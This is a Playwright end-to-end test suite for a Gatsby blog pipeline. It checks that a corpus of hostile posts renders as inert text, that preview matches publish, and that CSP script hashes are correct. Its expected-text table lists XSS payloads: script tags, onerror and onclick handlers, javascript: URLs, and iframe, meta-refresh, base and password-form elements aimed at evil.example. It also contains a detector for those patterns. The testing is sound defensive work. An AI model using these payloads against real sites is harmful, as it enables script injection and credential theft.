import type { ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { type APIRequestContext, expect, type Page, test } from '@playwright/test';
import { readPostFile } from '@site/pipeline';
import { parseDocument } from 'htmlparser2';
import { e2eAdmin } from '../playwright.config';
import {
  buildCorpusSite,
  buildSecret,
  buildWorkDir,
  corpusBaseURL,
  corpusDir,
  corpusPosts,
  filesNamed,
  htmlPages,
  siteDir,
  startCorpusServer,
} from './corpus-site';
import { isDocumentPage } from '../contracts/src/site-build';
import { hydrated, loginAsAdmin } from './support';

/**
 * The one content pipeline through a real build: the bundled posts plus the hostile and prose
 * corpora (pipeline/corpus) are built once by `gatsby build` (e2e/corpus-site.ts) and served by
 * their own server. In Chromium nothing a hostile post wrote runs and its text reads as text; the
 * prose posts read as written; for every post the body the editor's preview gets from
 * POST /api/v1/drafts/preview is the body of the built page; and every page's inline scripts,
 * Gatsby's chunk map among them, are in the build's CSP hashes and run without a refusal.
 */

const root = path.resolve(__dirname, '..');

interface Post {
  label: string;
  slug: string;
  title: string;
  description: string;
  author: string | null;
  draft: boolean;
  body: string;
}

function readPost(label: string, source: string): Post {
  const read = readPostFile(source, label);
  if (!read.ok) throw new Error(read.errors.join('\n'));
  const { slug, title, description, author, draft } = read.fields;
  return { label, slug, title, description, author: author ?? null, draft, body: read.body };
}

const corpus = corpusPosts().map((post) => ({
  kind: post.kind,
  ...readPost(`${post.kind}/${post.file}`, post.source),
}));
const hostile = corpus.filter((post) => post.kind === 'hostile');
const prose = corpus.filter((post) => post.kind === 'prose');
const bundled = fs
  .readdirSync(path.join(root, 'content/blog'))
  .filter((name) => name.endsWith('.md'))
  .sort()
  .map((name) =>
    readPost(
      `content/blog/${name}`,
      fs.readFileSync(path.join(root, 'content/blog', name), 'utf8'),
    ),
  );

/** What each hostile post must show as text (its body's visible text contains each of these). */
const hostileText: Record<string, string[]> = {
  'hostile-bad-urls': [
    'a javascript link',
    'vbscript',
    "javascript:console.log('PWNED-autolink')",
    "<script>console.log('PWNED-none-language')</script>",
  ],
  'hostile-frames-forms-meta': [
    '<iframe src="https://evil.example/PWNED-iframe"></iframe>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/PWNED-refresh">',
    '<base href="https://evil.example/PWNED-base/">',
    '<form action="https://evil.example/PWNED-form" method="post"><input name="password"><button>Log in</button></form>',
  ],
  'hostile-import-export': [
    "import fs from 'node:fs'",
    "export default function Layout() { return 'PWNED-layout' }",
    'The lines above are text.',
  ],
  'hostile-jsx': [
    "<Component onClick={() => alert('PWNED-jsx')} />",
    "A paragraph with <span style={{color: 'red'}}>inline JSX</span> in it.",
  ],
  'hostile-mdx-expression': [
    "return 'PWNED-expression-ran' })()}",
    'And reading the environment: {process.env.ADMIN_PASSWORD}',
    '{/* a comment that MDX would hide */}',
  ],
  'hostile-script-and-handlers': [
    "<script>console.log('PWNED-script-block'); document.title = 'PWNED'</script>",
    `an image <img src="x" onerror="console.log('PWNED-onerror')">.`,
    `<a href="#" onclick="console.log('PWNED-onclick')">click me</a>`,
    '<style>body { display: none } /* PWNED-style */</style>',
    `<embed src="javascript:console.log('PWNED-embed')">`,
  ],
  'hostile-script-in-title': [
    "</script><script>console.log('PWNED-heading')</script>",
    'The title, description, author, tag and heading above all try to close a script element.',
  ],
};

const normalise = (html: string) => html.replace(/\s+/g, ' ').replace(/> </g, '><').trim();

/** The inner HTML of the page's `[data-post-body]` element, exactly as the server sent it. */
function bodyHtml(page: string): string {
  const doc = parseDocument(page, { withStartIndices: true, withEndIndices: true });
  const stack = [...doc.children];
  while (stack.length > 0) {
    const node = stack.shift();
    if (!node || !('attribs' in node)) continue;
    if ('data-post-body' in node.attribs) {
      const first = node.children[0];
      const last = node.children[node.children.length - 1];
      if (!first || !last) return '';
      return page.slice(first.startIndex ?? 0, (last.endIndex ?? -1) + 1);
    }
    stack.unshift(...node.children);
  }
  throw new Error('the page has no [data-post-body] element');
}

async function adminToken(request: APIRequestContext): Promise<string> {
  const res = await request.post('/api/v1/auth/login', { form: e2eAdmin });
  expect(res.ok()).toBeTruthy();
  return ((await res.json()) as { access_token: string }).access_token;
}

async function preview(request: APIRequestContext, token: string, body: string) {
  const res = await request.post('/api/v1/drafts/preview', {
    headers: { authorization: `Bearer ${token}` },
    data: { body },
  });
  expect(res.status()).toBe(200);
  return (await res.json()) as { html: string; problems: unknown[] };
}

/**
 * Everything on the page that would mean a post's content ran or reached out: dialogs, console
 * lines carrying the corpus marker, uncaught errors, Content-Security-Policy refusals, and any
 * request to another origin (which is also refused, so nothing leaves this machine).
 */
async function watch(page: Page) {
  const seen = {
    dialogs: [] as string[],
    markers: [] as string[],
    errors: [] as string[],
    cspRefusals: [] as string[],
    foreignRequests: [] as string[],
  };
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    const text = message.text();
    if (text.includes('PWNED') || text.includes('this is code, not a script')) {
      seen.markers.push(text);
    }
    if (/Content Security Policy/i.test(text)) seen.cspRefusals.push(text);
  });
  page.on('pageerror', (error) => seen.errors.push(error.message));
  await page.route('**/*', (route) => {
    const url = route.request().url();
    if (new URL(url).origin === corpusBaseURL) return route.continue();
    seen.foreignRequests.push(url);
    return route.abort();
  });
  return seen;
}

let server: ChildProcess | undefined;

test.describe.configure({ timeout: 60_000 });
test.use({ baseURL: corpusBaseURL });

test.beforeAll(async () => {
  // One real gatsby build of the whole site with the corpora; minutes on a shared 2-core machine.
  test.setTimeout(20 * 60_000);
  const took = await buildCorpusSite();
  if (took > 0) console.log(`[pipeline.spec] corpus site built in ${Math.round(took / 1000)} s`);
  server = await startCorpusServer();
});

test.afterAll(() => {
  server?.kill();
});

test('the build ran nothing a post wrote: no file made, no secret in the output', () => {
  // The build's folders (its work folder was its current directory) and the project itself.
  const written = [...filesNamed(corpusDir, 'PWNED'), ...filesNamed(root, 'PWNED')];
  expect(written).toEqual([]);
  const leaked = htmlPages(siteDir).filter((page) =>
    fs.readFileSync(path.join(siteDir, page), 'utf8').includes(buildSecret),
  );
  expect(leaked).toEqual([]);
  // The work folder is where `gatsby build` ran (its current directory).
  expect(fs.existsSync(path.join(buildWorkDir, 'public'))).toBe(true);
});

for (const post of hostile) {
  test(`hostile ${post.label}: nothing runs and the text reads as text`, async ({ page }) => {
    const seen = await watch(page);
    const res = await page.goto(`/blog/${post.slug}`);
    expect(res?.status()).toBe(200);
    await hydrated(page);
    await page.mouse.wheel(0, 4000);
    await page.waitForTimeout(300);

    const body = page.locator('[data-post-body]');
    const text = (await body.innerText()).replace(/\s+/g, ' ');
    for (const expected of hostileText[post.slug] ?? ['(no expected text listed)']) {
      expect(text).toContain(expected);
    }
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(post.title);
    expect(await page.title()).toContain(post.title);

    // The DOM holds nothing that acts: no such elements in the body, no handler attributes or
    // script addresses anywhere, no base or refresh in the head, and every script the page has is
    // the site's own (the JSON-LD is data, and carries the author's text as JSON strings).
    const findings = await page.evaluate(() => {
      const out: string[] = [];
      const bodyEl = document.querySelector('[data-post-body]');
      for (const el of bodyEl?.querySelectorAll(
        'script, iframe, object, embed, form, input:not([type=checkbox]), button, style, link, meta, base',
      ) ?? []) {
        out.push(`body element <${el.tagName.toLowerCase()}>`);
      }
      for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
          if (/^on/i.test(attr.name)) out.push(`${el.tagName} ${attr.name}`);
          if (
            /^(href|src|action|formaction|data|srcdoc)$/i.test(attr.name) &&
            /^\s*(javascript|data|vbscript):/i.test(attr.value)
          ) {
            out.push(`${el.tagName} ${attr.name}=${attr.value}`);
          }
        }
      }
      for (const el of document.querySelectorAll('base, iframe, object, embed')) {
        out.push(`document element <${el.tagName.toLowerCase()}>`);
      }
      // Gatsby's own x-ua-compatible is the only http-equiv the site writes.
      for (const el of document.querySelectorAll('meta[http-equiv]')) {
        const name = el.getAttribute('http-equiv')?.toLowerCase();
        if (name !== 'x-ua-compatible') out.push(`<meta http-equiv="${name ?? ''}">`);
      }
      for (const el of document.querySelectorAll('script')) {
        if (el.type !== 'application/ld+json' && (el.textContent ?? '').includes('PWNED')) {
          out.push(`script with the marker: ${el.textContent?.slice(0, 80) ?? ''}`);
        }
      }
      if (document.title === 'PWNED') out.push('document.title was set');
      return out;
    });
    expect(findings).toEqual([]);

    // Head values are the author's text, escaped for their context, read back whole.
    await expect(page.locator('meta[name="description"]')).toHaveAttribute(
      'content',
      post.description,
    );
    const ldJson = await page.locator('script[type="application/ld+json"]').textContent();
    const ld = JSON.parse(ldJson ?? '{}') as { headline?: string; description?: string };
    expect(ld.headline).toBe(post.title);
    expect(ld.description).toBe(post.description);

    expect(seen).toEqual({
      dialogs: [],
      markers: [],
      errors: [],
      cspRefusals: [],
      foreignRequests: [],
    });
  });
}

test('the title, description, author and tag that try to end a script read as text', async ({
  page,
}) => {
  const post = hostile.find((p) => p.slug === 'hostile-script-in-title');
  if (!post) throw new Error('hostile/script-in-title.md is missing from the corpus');
  const seen = await watch(page);
  await page.goto(`/blog/${post.slug}`);
  await hydrated(page);
  expect(post.title).toContain('</script>');
  expect(post.description).toMatch(/\u2028.*\u2029/);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(post.title);
  await expect(page.getByText(`By ${post.author ?? '-'}`, { exact: true })).toBeVisible();
  await expect(page.getByRole('region', { name: 'Tags' }).getByRole('listitem')).toHaveText([
    "</script><script>console.log('PWNED-tag')</script>",
    'safe',
  ]);
  const raw = await (await page.request.get(`/blog/${post.slug}`)).text();
  const ldSource = /<script type="application\/ld\+json"[^>]*>([\s\S]*?)<\/script>/.exec(raw)?.[1];
  expect(ldSource).toBeDefined();
  expect(ldSource).not.toMatch(/[<>\u2028\u2029]/);
  const ld = JSON.parse(ldSource ?? '{}') as { author?: { name?: string }; keywords?: string };
  expect(ld.author?.name).toBe(post.author);
  expect(ld.keywords).toContain("</script><script>console.log('PWNED-tag')</script>");
  expect(seen.markers).toEqual([]);
  expect(seen.dialogs).toEqual([]);
});

test('the prose posts build and read as written', async ({ page }) => {
  const seen = await watch(page);
  expect(prose.map((post) => post.slug).sort()).toEqual([
    'prose-braces-and-brackets',
    'prose-code-in-many-languages',
  ]);

  await page.goto('/blog/prose-braces-and-brackets');
  await hydrated(page);
  const body = page.locator('[data-post-body]');
  const text = (await body.innerText()).replace(/\s+/g, ' ');
  for (const expected of [
    'Retry settings look like {retries: 3, backoff: "exponential"} in most clients, and a lone } or { should simply be text.',
    'Comparisons such as 3<5, 10 > 9 and a<b>c read as written',
    'a template ${value}',
    'An HTML-looking word like <agent> or <T> in prose is shown as it is typed.',
    'Agents 🤖, guardrails 🛡️ and traces 🔍. Ünïcödé, 日本語のテキスト, العربية, and a family 👨‍👩‍👧‍👦.',
    'Excepteur sint occaecat cupidatat non proident, sunt in culpa qui officia deserunt mollit anim id est laborum.',
  ]) {
    expect(text).toContain(expected);
  }
  expect(text).not.toContain('a note to fellow authors');
  await expect(body.getByRole('link', { name: 'user@example.com' })).toHaveAttribute(
    'href',
    'mailto:user@example.com',
  );
  await expect(
    body.getByRole('link', { name: 'https://example.com/docs?page=2&lang=en' }),
  ).toHaveAttribute('href', 'https://example.com/docs?page=2&lang=en');
  await expect(body.locator('h2#table-of-limits')).toContainText('Table of limits');
  await expect(body.getByRole('cell', { name: '{per run}' })).toBeVisible();
  await expect(body.getByRole('cell', { name: 'a < b' })).toBeVisible();
  // The long line wraps inside the column instead of widening the page.
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(
    true,
  );

  await page.goto('/blog/prose-code-in-many-languages');
  await hydrated(page);
  const code = page.locator('[data-post-body]');
  await expect(
    code.locator('.gatsby-highlight[data-language="typescript"] .token.keyword').first(),
  ).toHaveText('interface');
  await expect(
    code.locator('.gatsby-highlight[data-language="python"] .token.keyword').first(),
  ).toHaveText('def');
  await expect(code.locator('.gatsby-highlight[data-language="html"]')).toContainText(
    "<script>console.log('this is code, not a script')</script>",
  );
  await expect(code.locator('.gatsby-highlight[data-language="text"]')).toContainText(
    'No language at all: <b>not bold</b> & {braces}',
  );
  await expect(code.getByText('{ "a": 1 }', { exact: true })).toBeVisible();
  await expect(code.getByRole('checkbox')).toHaveCount(2);
  await expect(code.getByRole('link', { name: 'relative link' })).toHaveAttribute(
    'href',
    '/contact',
  );
  await expect(code.getByRole('link', { name: 'external one' })).toHaveAttribute(
    'target',
    '_blank',
  );
  await expect(code.locator('a[data-footnote-ref]')).toHaveCount(1);

  expect(seen).toEqual({
    dialogs: [],
    markers: [],
    errors: [],
    cspRefusals: [],
    foreignRequests: [],
  });
});

test('preview equals publish: every bundled and corpus post', async ({ page, request }) => {
  const token = await adminToken(request);
  const posts = [...bundled, ...corpus];
  let published = 0;
  for (const post of posts) {
    const previewed = await preview(request, token, post.body);
    expect(previewed.problems, post.label).toEqual([]);
    const built = await request.get(`/blog/${post.slug}`);
    // A post marked `draft: true` is built by `npm run develop` only: nothing is published.
    if (post.draft) {
      expect(built.status(), post.label).toBe(404);
      continue;
    }
    published += 1;
    expect(built.status(), post.label).toBe(200);
    // The body as the server sends the built page, against the preview's HTML.
    expect(normalise(bodyHtml(await built.text())), post.label).toBe(normalise(previewed.html));
    // And as the browser holds it once the page's scripts have run (hydration keeps it).
    await page.goto(`/blog/${post.slug}`);
    await hydrated(page);
    const [live, previewParsed] = await page.evaluate((html) => {
      const template = document.createElement('template');
      template.innerHTML = html;
      return [document.querySelector('[data-post-body]')?.innerHTML ?? '', template.innerHTML];
    }, previewed.html);
    expect(normalise(live), post.label).toBe(normalise(previewParsed));
  }
  expect(published).toBe(posts.filter((post) => !post.draft).length);
  expect(published).toBeGreaterThan(corpus.length);
});

test("the editor's live preview shows the body the built page shows", async ({ page }) => {
  await loginAsAdmin(page);
  for (const slug of ['prose-braces-and-brackets', 'hostile-script-and-handlers']) {
    const post = corpus.find((p) => p.slug === slug);
    if (!post) throw new Error(`${slug} is missing from the corpus`);
    await page.goto(`/blog/${slug}`);
    await hydrated(page);
    const built = await page.locator('[data-post-body]').evaluate((el) => el.innerHTML);

    await page.goto('/blog/new');
    await hydrated(page);
    await page.getByRole('textbox', { name: /Body/ }).fill(post.body);
    const shown = page.getByRole('region', { name: 'Preview' }).locator('[data-post-body]');
    await expect(shown).toContainText(post.body.includes('Retry') ? 'Retry settings' : 'click me');
    // The preview is marked busy while a newer body is being compiled.
    await expect(
      page.getByRole('region', { name: 'Preview' }).locator('[aria-busy="true"]'),
    ).toHaveCount(0);
    expect(normalise(await shown.evaluate((el) => el.innerHTML)), slug).toBe(normalise(built));
  }
});

test.describe('Gatsby’s scripts on this build’s pages, under the content security policy', () => {
  const sha = (body: string) =>
    `'sha256-${createHash('sha256').update(body, 'utf8').digest('base64')}'`;
  /** The bodies of a page's inline scripts that a browser runs (not JSON-LD or other data). */
  const executableInline = (html: string) =>
    [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)]
      .filter(([, attributes = '']) => {
        const type = /\btype="([^"]*)"/.exec(attributes)?.[1] ?? '';
        return !/\bsrc=/.test(attributes) && ['', 'module', 'text/javascript'].includes(type);
      })
      .map(([, , body = '']) => body)
      .filter((body) => body.length > 0);
  /** The pages' script hashes from the manifest the site's adapter wrote beside public/. */
  const cspHashes = () =>
    (
      JSON.parse(fs.readFileSync(path.join(corpusDir, 'site/site-manifest.json'), 'utf8')) as {
        scriptHashes: Record<string, string[]>;
      }
    ).scriptHashes;

  /** An app page (a full Gatsby app route), from its file's path: "login/index.html" is /login. */
  const isAppPage = (relative: string) =>
    !isDocumentPage(`/${relative.replace(/(^|\/)index\.html$/, '')}`);

  test('app pages carry the scripts slice as Gatsby wrote it, each inline script hashed; document pages no runtime', () => {
    const slice = fs.readFileSync(
      path.join(siteDir, '_gatsby/slices/_gatsby-scripts-1.html'),
      'utf8',
    );
    const sources = [...slice.matchAll(/<script src="(\/[^"]+\.js)" async><\/script>/g)].map(
      (m) => m[1] ?? '',
    );
    expect(sources.some((src) => /^\/app-[0-9a-f]+\.js$/.test(src))).toBe(true);
    for (const src of sources) expect(fs.existsSync(path.join(siteDir, src)), src).toBe(true);
    const chunkMap = /<script\s+id="gatsby-chunk-mapping"\s*>([\s\S]*?)<\/script>/.exec(slice)?.[1];
    expect(chunkMap).toContain('window.___chunkMapping=');

    const csp = cspHashes();
    // Gatsby's pages; the other .html files are static/ files copied as they are.
    const pages = htmlPages(siteDir).filter((relative) =>
      fs.readFileSync(path.join(siteDir, relative), 'utf8').includes('<div id="___gatsby">'),
    );
    const others = htmlPages(siteDir).filter((relative) => !pages.includes(relative));
    expect(
      others.filter((relative) => !fs.existsSync(path.join(root, 'static', relative))),
    ).toEqual([]);
    expect(pages.length).toBeGreaterThan(20);
    const appPages = pages.filter(isAppPage);
    expect(appPages.length).toBeGreaterThan(3);
    const problems: string[] = [];
    for (const relative of pages) {
      const html = fs.readFileSync(path.join(siteDir, relative), 'utf8');
      const hashes = [...new Set(executableInline(html).map(sha))].sort();
      if (JSON.stringify([...(csp[relative] ?? [])].sort()) !== JSON.stringify(hashes)) {
        problems.push(`${relative}: site-manifest.json does not list exactly its inline scripts`);
      }
      if (appPages.includes(relative)) {
        if (!html.includes(slice))
          problems.push(`${relative}: scripts slice not as Gatsby wrote it`);
        if (!hashes.includes(sha(chunkMap ?? ''))) problems.push(`${relative}: no chunk map`);
        continue;
      }
      // A document page: no inline script, and no script but the island loader.
      if (hashes.length > 0) problems.push(`${relative}: an inline script on a document page`);
      const external = [...html.matchAll(/<script\b[^>]*\bsrc="([^"]+)"/g)].map((m) => m[1]);
      if (external.some((src) => !/^\/islands\/loader-[0-9a-f]+\.js$/.test(src ?? ''))) {
        problems.push(
          `${relative}: a script other than the island loader (${external.join(', ')})`,
        );
      }
    }
    expect(problems).toEqual([]);
  });

  test('in Chromium the app runs on an app page and the islands on a document page, with no script refused', async ({
    page,
  }) => {
    const seen = await watch(page);
    const csp = cspHashes();
    const res = await page.goto('/login');
    expect(res?.status()).toBe(200);
    const policy = res?.headers()['content-security-policy'] ?? '';
    expect(csp['login/index.html']?.length).toBeGreaterThan(0);
    for (const hash of csp['login/index.html'] ?? []) expect(policy).toContain(hash);
    await hydrated(page);
    const ran = await page.evaluate(() => ({
      chunkMap: typeof (window as unknown as { ___chunkMapping?: unknown }).___chunkMapping,
      listed: [...document.querySelectorAll<HTMLScriptElement>('script[src][async]')].map(
        (el) => new URL(el.src).pathname,
      ),
      fetched: performance
        .getEntriesByType('resource')
        .map((entry) => new URL(entry.name).pathname),
    }));
    expect(ran.chunkMap).not.toBe('undefined');
    expect(ran.listed.length).toBeGreaterThanOrEqual(3);
    for (const src of ran.listed) expect(ran.fetched).toContain(src);

    for (const url of ['/blog', `/blog/${bundled.find((post) => !post.draft)?.slug ?? ''}`]) {
      expect((await page.goto(url))?.status(), url).toBe(200);
      // Pointing at every island hydrates it.
      for (const island of await page
        .locator('[data-island]:not([data-island-load="staff"]) > *')
        .all()) {
        await island.hover();
      }
      await page.waitForFunction(
        () =>
          [...document.querySelectorAll('[data-island]:not([data-island-load="staff"])')].every(
            (element) => element.hasAttribute('data-island-hydrated'),
          ),
        undefined,
        { timeout: 15_000 },
      );
      await hydrated(page);
      expect(
        await page.evaluate(
          () => typeof (window as unknown as { ___chunkMapping?: unknown }).___chunkMapping,
        ),
        url,
      ).toBe('undefined');
    }
    expect(seen.errors).toEqual([]);
    expect(seen.cspRefusals).toEqual([]);
  });
});
